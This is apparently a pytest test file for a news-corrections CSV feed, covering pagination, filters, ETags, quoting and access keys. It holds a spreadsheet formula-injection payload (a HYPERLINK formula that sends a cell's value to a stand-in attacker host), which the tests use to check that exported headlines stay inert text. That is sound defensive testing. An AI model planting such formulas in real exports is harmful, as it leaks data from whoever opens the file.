"""The ledger for spreadsheets: every row once, as any program reads CSV, and nothing in it that acts."""

import csv
from io import StringIO

import pytest

from service.web import feeds
from tests.support.problems import places, problem_of

BEFORE, AFTER = (f"The ferry carried {people} people on Monday.\n\nThe pier is shut." for people in (30, 50))
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Read, now")'


def history(editor, name, *texts, **fields):
    """Post versions of an article, a day apart."""
    new = {"url": f"https://paper.example/{name}", "outlet": "Gazette", "title": "Ferry"} | fields
    for day, text in enumerate(texts, 10):
        answer = editor.post("/versions", new | {"text": text, "captured_at": f"2026-01-{day}T08:00:00Z"})
        assert answer.status_code == 201


def fetch(api, query="", **more):
    fields = {"Authorization": f"Bearer {api.key}"} if api.key else {}
    fields |= {name.replace("_", "-"): value for name, value in more.items()}
    return api.client.get(f"/feeds/corrections.csv{query}", headers=fields)


def rows(answer):
    assert (answer.status_code, answer.mimetype) == (200, "text/csv")
    return list(csv.DictReader(StringIO(answer.get_data().decode("utf-8-sig"), newline="")))


def test_a_row_tells_what_was_replaced_by_what_and_whether_readers_were_told(editor):
    note = "\n\nCorrection: An earlier version misstated the number of people as 30."
    history(editor, "a", BEFORE, AFTER + note)
    (row,) = rows(fetch(editor))
    (listed,) = editor.get("/corrections").json["data"]
    assert (row["before"], row["after"]) == ("30", "50")
    assert row["notice"] == note.strip()
    for name in (
        "id",
        "detected_at",
        "outlet",
        "kind",
        "status",
        "disclosure",
        "from_version",
        "to_version",
        "summary",
    ):
        assert row[name] == str(listed[name]), name
    assert (row["headline"], row["url"], row["lag_seconds"]) == ("Ferry", "https://paper.example/a", "")


def test_every_correction_is_there_once_however_many_pages_it_takes(editor, monkeypatch):
    monkeypatch.setattr(feeds, "MAX_PAGE", 2)
    for name in "abcde":
        history(editor, name, BEFORE, AFTER)
    listed = [str(row["id"]) for row in editor.get("/corrections").json["data"]]
    assert [row["id"] for row in rows(fetch(editor))] == listed
    assert len(listed) == 5


def test_the_filters_are_those_of_the_list(editor):
    history(editor, "a", BEFORE, AFTER, tags=["transport"])
    history(editor, "b", BEFORE, AFTER, outlet="Herald")
    for query, outlets in (("", {"Gazette", "Herald"}), ("?outlet=Herald", {"Herald"}), ("?tag=transport", {"Gazette"}),
                           ("?kind=retraction", set()), ("?until=2026-01-01T00:00:00Z", set())):  # fmt: skip
        assert {row["outlet"] for row in rows(fetch(editor, query))} == outlets


def test_a_table_that_did_not_change_is_answered_304_and_not_made(editor, monkeypatch):
    history(editor, "a", BEFORE, AFTER)
    tag = fetch(editor).headers["ETag"]
    monkeypatch.setattr(feeds, "list_corrections", None)
    for query in ("", "?outlet=Gazette"):
        answer = fetch(editor, query, If_None_Match=tag)
        assert (answer.status_code, answer.get_data()) == (304, b"")
    assert problem_of(fetch(editor, If_Match='"other"')) == (412, "precondition-failed")


@pytest.mark.parametrize("change", ["posted", "reviewed", "renamed", "taken down"])
def test_a_table_that_changed_has_another_tag(editor, admin, change):
    history(editor, "a", BEFORE, AFTER, title="")
    tag = fetch(editor).headers["ETag"]
    if change == "posted":
        history(editor, "b", BEFORE, AFTER)
    elif change == "reviewed":
        said = {"status": "confirmed"}
        assert editor.post("/corrections/1/reviews", said, If_Match="*").status_code == 201
    elif change == "renamed":  # the headline is the article's where the version has none
        assert editor.ask("PATCH", "/articles/1", {"title": "Pier"}, If_Match="*").status_code == 200
    else:
        assert admin.ask("DELETE", "/articles/1").status_code == 204
    answer = fetch(editor, If_None_Match=tag)
    assert answer.status_code == 200
    assert answer.headers["ETag"] != tag
    rows(answer)


@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "＝", " =", "\xa0=", "\t="])
def test_a_headline_that_looks_like_a_formula_is_text(editor, sign):
    history(editor, "a", BEFORE, AFTER, title=sign + FORMULA[1:])
    (row,) = rows(fetch(editor))
    assert row["headline"] == f"'{sign}{FORMULA[1:]}"


def test_quotation_marks_commas_and_lines_stay_in_their_cell_and_what_is_invisible_is_shown(editor):
    title = 'He said "no", \u202ereally'
    history(editor, "a", BEFORE, AFTER.replace("people on Monday", "guests, on \u201cMay Day\u201d"), title=title)
    (row,) = rows(fetch(editor))
    assert row["headline"] == 'He said "no", [U+202E]really'
    assert {"May Day", "50"} <= set(row["after"].split("\n"))
    assert None not in row


def test_a_parameter_that_there_is_not_is_refused(editor):
    for query in ("?limit=3", "?order=newest", "?cursor=x", "?colour=red"):
        assert problem_of(fetch(editor, query)) == (400, "validation-error")
    answer = fetch(editor, "?kind=rumour")
    assert (problem_of(answer), places(answer)) == ((422, "validation-error"), ["kind"])


def test_a_key_is_needed_where_reading_needs_one(nobody, editor):
    history(editor, "a", BEFORE, AFTER)
    assert problem_of(fetch(nobody)) == (401, "unauthorized")
